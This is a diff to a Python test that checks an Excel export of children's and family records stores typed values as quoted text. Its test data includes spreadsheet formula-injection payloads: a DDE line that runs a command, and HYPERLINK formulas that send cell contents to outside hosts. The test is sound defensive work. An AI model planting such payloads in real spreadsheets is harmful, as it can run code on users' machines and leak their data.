@@ -21,6 +21,7 @@ from tests.test_children_excel import good_row, sign_in, upload, uploads, workbo
 
 HYPERLINK = '=HYPERLINK("http://example.org/?"&C2,"点我")'
 DDE = "=cmd|' /C calc'!A0"
+NAME_LINK = '=HYPERLINK("http://x.cn/?"&C2,"点我")'  # a name holds 40 characters
 
 # (what someone typed, what the cell must show). Every one of them could start a formula.
 DANGEROUS = [
@@ -123,14 +124,14 @@ def export(client) -> bytes:
 
 def test_the_export_writes_names_and_family_as_text(client, auth, app):
     village = create_village("前王庄村")
-    create_child(HYPERLINK, village=village, address=DDE, health="+1+1",
+    create_child(NAME_LINK, village=village, address=DDE, health=HYPERLINK,
                  family=[FamilyInput(relation="祖母", name="@SUM(A1)", phone="13800001111", is_guardian=True),
                          FamilyInput(relation="父亲", name="－1+1", works_away=True)])
     sign_in(auth, "civil_affairs")
     data = export(client)
     assert_no_formula(data)
     row = {c.value: c for c in cells(data)}
-    for text in (HYPERLINK, DDE, "+1+1", "@SUM(A1)", "－1+1"):
+    for text in (NAME_LINK, HYPERLINK, DDE, "@SUM(A1)", "－1+1"):
         assert row[text].data_type == "s" and row[text].quotePrefix, text
     birth = [c for c in cells(data) if c.is_date]
     assert [c.value.date() for c in birth] == [date(2015, 3, 2)]  # dates stay dates
